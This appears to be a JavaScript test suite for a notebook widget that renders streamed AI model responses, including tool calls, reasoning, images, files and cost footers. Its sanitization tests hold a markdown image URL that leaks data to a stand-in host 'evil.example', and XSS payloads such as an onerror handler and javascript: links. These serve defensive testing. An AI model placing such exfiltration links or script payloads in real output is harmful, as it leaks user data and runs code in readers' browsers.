import assert from "node:assert/strict";
import { test } from "node:test";
import { document } from "./dom.mjs";
import { Model, until } from "./model.mjs";

const { default: widget, STORES } = await import("../response_view.js");
const { formatCost, formatUsage } = await import("../rv_header.js");

const msgItem = (text, done = false, index = 1) => ({ index, kind: "message", done,
  item: { type: "message", role: "assistant", content: [{ type: "output_text", text }] } });

function mount(model) {
  const el = document.createElement("div");
  document.body.append(el);
  const cleanup = widget.render({ model, el });
  return { el, cleanup };
}

function finish(model, blocks, seq = 1) {
  model.custom({ kind: "reset", seq, blocks });
  model.set("status", "completed");
  model.set("finished", true);
}

test("initialize and two renders share one store: every delta shows once in each view", async () => {
  const model = new Model({ uid: "u-shared" });
  const dispose = widget.initialize({ model });
  const a = mount(model);
  const b = mount(model);
  assert.equal(model.listeners("msg:custom"), 1, "one store, one listener");
  assert.equal(model.sent.filter((m) => m.kind === "sync").length, 1);
  model.custom({ kind: "reset", seq: 0, blocks: [msgItem("")] });
  const words = "Understanding the request step by step".split(" ");
  words.forEach((w, i) => model.custom({ kind: "patches", seq: i + 1, patches: [[1, "text", 0, `${w} `]] }));
  model.custom({ kind: "patches", seq: words.length, patches: [[1, "text", 0, "again "]] }); // a duplicate
  const want = `${words.join(" ")}`;
  await until(() => [a, b].every((v) => v.el.querySelector(".rv-markdown")?.textContent.trim() === want), "both views to show the text once");
  a.cleanup();
  b.cleanup();
  dispose();
  assert.equal(STORES.has("u-shared"), false, "the store is dropped when the model closes");
  assert.equal(model.listeners("msg:custom"), 0);
});

test("a gap in the sequence asks for a reset", async () => {
  const model = new Model({ uid: "u-gap" });
  const dispose = widget.initialize({ model });
  model.custom({ kind: "reset", seq: 0, blocks: [] });
  model.custom({ kind: "patches", seq: 2, patches: [[0, "text", 0, "x"]] });
  assert.equal(model.sent.filter((m) => m.kind === "sync").length, 2);
  dispose();
});

test("tool calls: icons are inline SVG, results shown in their call, JSON collapsible", async () => {
  const model = new Model({ uid: "u-tools" });
  const dispose = widget.initialize({ model });
  const { el, cleanup } = mount(model);
  finish(model, [
    { index: 0, kind: "reasoning", done: true, item: { type: "reasoning", summary: [{ type: "summary_text", text: "**Plan** it" }] } },
    { index: 1, kind: "function_call", done: true, item: { type: "function_call", name: "get_weather", call_id: "c1", arguments: '{"city":"Paris"}' } },
    { index: 2, kind: "function_call_output", done: true, item: { type: "function_call_output", call_id: "c1", output: '{"temp": 21, "sky": "clear"}' } },
    { index: 3, kind: "mcp_call", done: true, item: { type: "mcp_call", server_label: "wiki", name: "ask", arguments: '{"q":"x"}', output: "plain answer" } },
    msgItem("Done.", true, 4),
  ]);
  await until(() => el.querySelector(".rv-block[data-kind=function_call] .rv-output"), "the call's result");
  const call = el.querySelector(".rv-block[data-kind=function_call]");
  assert.match(call.textContent, /get_weather/);
  assert.match(call.textContent, /"temp": 21/);
  assert.ok(call.querySelector("details.rv-json"), "collapsible JSON");
  assert.ok(el.querySelector(".rv-block[data-kind=function_call_output] .rv-hidden-output"));
  assert.ok(el.querySelectorAll("svg.rv-icon").length >= 3);
  assert.doesNotMatch(el.textContent, /\p{Extended_Pictographic}/u, "no emoji");
  assert.equal(el.querySelector("details.rv-reasoning").open, false, "reasoning folded when finished");
  cleanup();
  dispose();
});

test("reasoning is open while it streams, folds when the answer starts", async () => {
  const model = new Model({ uid: "u-reason" });
  const dispose = widget.initialize({ model });
  const { el, cleanup } = mount(model);
  model.custom({ kind: "reset", seq: 0, blocks: [] });
  model.custom({ kind: "patches", seq: 1, patches: [[0, "summary", 0, "Looking at the data"]] });
  await until(() => el.querySelector("details.rv-reasoning")?.open, "reasoning open while streaming");
  assert.match(el.querySelector("details.rv-reasoning").textContent, /Looking at the data/);
  model.custom({ kind: "patches", seq: 2, patches: [[1, "text", 0, "Answer"]] });
  await until(() => el.querySelector("details.rv-reasoning").open === false, "reasoning folded");
  cleanup();
  dispose();
});

test("structured output: a JSON answer is a tree titled with the parsed model's name", async () => {
  const model = new Model({ uid: "u-json", header: { format_name: "Weather" } });
  const dispose = widget.initialize({ model });
  const { el, cleanup } = mount(model);
  finish(model, [msgItem('{"city": "Paris", "days": [1, 2]}', true)]);
  await until(() => el.querySelector(".rv-json-view"), "the JSON view");
  assert.equal(el.querySelector(".rv-json-view .rv-label").textContent, "Weather");
  cleanup();
  dispose();
});

test("images: remote ones wait for a click naming the host; data: and same-origin load", async () => {
  const model = new Model({ uid: "u-img" });
  const dispose = widget.initialize({ model });
  const { el, cleanup } = mount(model);
  const png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
  finish(model, [msgItem(`![a](https://evil.example/leak?d=secret) ![b](${png}) ![c](/files/plot.png)\n\n\`\`\`python\nx = 1\n\`\`\``, true)]);
  await until(() => el.querySelector(".rv-remote-image"), "the placeholder");
  const button = el.querySelector(".rv-remote-image");
  assert.match(button.textContent, /evil\.example/);
  const srcs = [...el.querySelectorAll("img")].map((i) => i.getAttribute("src"));
  assert.deepEqual(srcs, [png, "http://127.0.0.1:8888/files/plot.png"]);
  button.click();
  assert.ok([...el.querySelectorAll("img")].some((i) => i.src.startsWith("https://evil.example/")));
  assert.ok(el.querySelector(".rv-codeblock .rv-copy"), "a copy button on the code block");
  cleanup();
  dispose();
});

test("output files: no fetch until clicked, and only from this server or an allowed host", async () => {
  const calls = [];
  globalThis.fetch = async (url) => { calls.push(String(url)); return new Response("# Report\n\ntext"); };
  const model = new Model({ uid: "u-file", fetch_hosts: ["files.example"] });
  const dispose = widget.initialize({ model });
  const { el, cleanup } = mount(model);
  const file = (url) => ({ type: "output_file", fileName: "r.md", fileUrl: url, mimeType: "text/markdown" });
  finish(model, [{ index: 1, kind: "message", done: true, item: { type: "message", role: "assistant", content: [
    file("http://127.0.0.1:8888/files/r.md"), file("https://files.example/r.md"), file("http://10.0.0.1/admin.md")] } }]);
  await until(() => el.querySelectorAll(".rv-file").length === 3, "three files");
  assert.deepEqual(calls, []);
  const buttons = [...el.querySelectorAll(".rv-file button")];
  assert.equal(buttons.length, 2, "no preview button for a foreign host");
  assert.match(el.querySelectorAll(".rv-file")[2].textContent, /no preview: 10\.0\.0\.1/);
  buttons[0].click();
  await until(() => el.querySelector(".rv-preview h1"), "the preview");
  assert.deepEqual(calls, ["http://127.0.0.1:8888/files/r.md"]);
  cleanup();
  dispose();
});

test("usage footer: tokens and cost", () => {
  assert.equal(formatCost({ usd: 0.0123, credits: null, note: "" }), "≈ $0.0123");
  assert.equal(formatCost({ usd: null, credits: 12.5, note: "" }), "12.5 credits");
  assert.equal(formatCost({ usd: null, credits: null, note: "price unknown for model x" }), "price unknown for model x");
  assert.equal(formatCost(undefined), "");
  assert.equal(formatUsage({ input_tokens: 10, output_tokens: 5, cost: { usd: 2.5 } }),
    "input 10 (cached 0) · output 5 (reasoning 0) tokens · ≈ $2.50");
  assert.equal(formatUsage({}), "");
});

test("hostile markdown: no handlers, no javascript: links, no borrowed class or id", async () => {
  const model = new Model({ uid: "u-xss" });
  const dispose = widget.initialize({ model });
  const { el, cleanup } = mount(model);
  finish(model, [msgItem('<img src=x onerror="alert(1)"> [a](javascript:alert(1)) <div class="jp-Dialog" id="main">fake</div> <a href="vbscript:x">v</a>', true)]);
  await until(() => el.querySelector(".rv-markdown")?.textContent.includes("fake"), "the render");
  const attrs = [...el.querySelectorAll(".rv-markdown *")].flatMap((n) => [...n.attributes].map((a) => `${a.name}=${a.value}`));
  assert.ok(!attrs.some((a) => /^on|javascript:|vbscript:|jp-Dialog|^id=/i.test(a)), attrs.join(" "));
  cleanup();
  dispose();
});

test("messages a loader held while the bundle loaded are applied, once each", async () => {
  const model = new Model({ uid: "u-early" });
  const early = [1, 2].map((seq) => ({ kind: "patches", seq, patches: [[0, "text", 0, `w${seq} `]] }));
  const dispose = widget.initialize({ model, early });
  model.custom(early[1]); // also seen by the store's own listener: stale
  model.custom({ kind: "patches", seq: 3, patches: [[0, "text", 0, "w3"]] });
  assert.equal(STORES.get("u-early").text(), "w1 w2 w3");
  dispose();
});
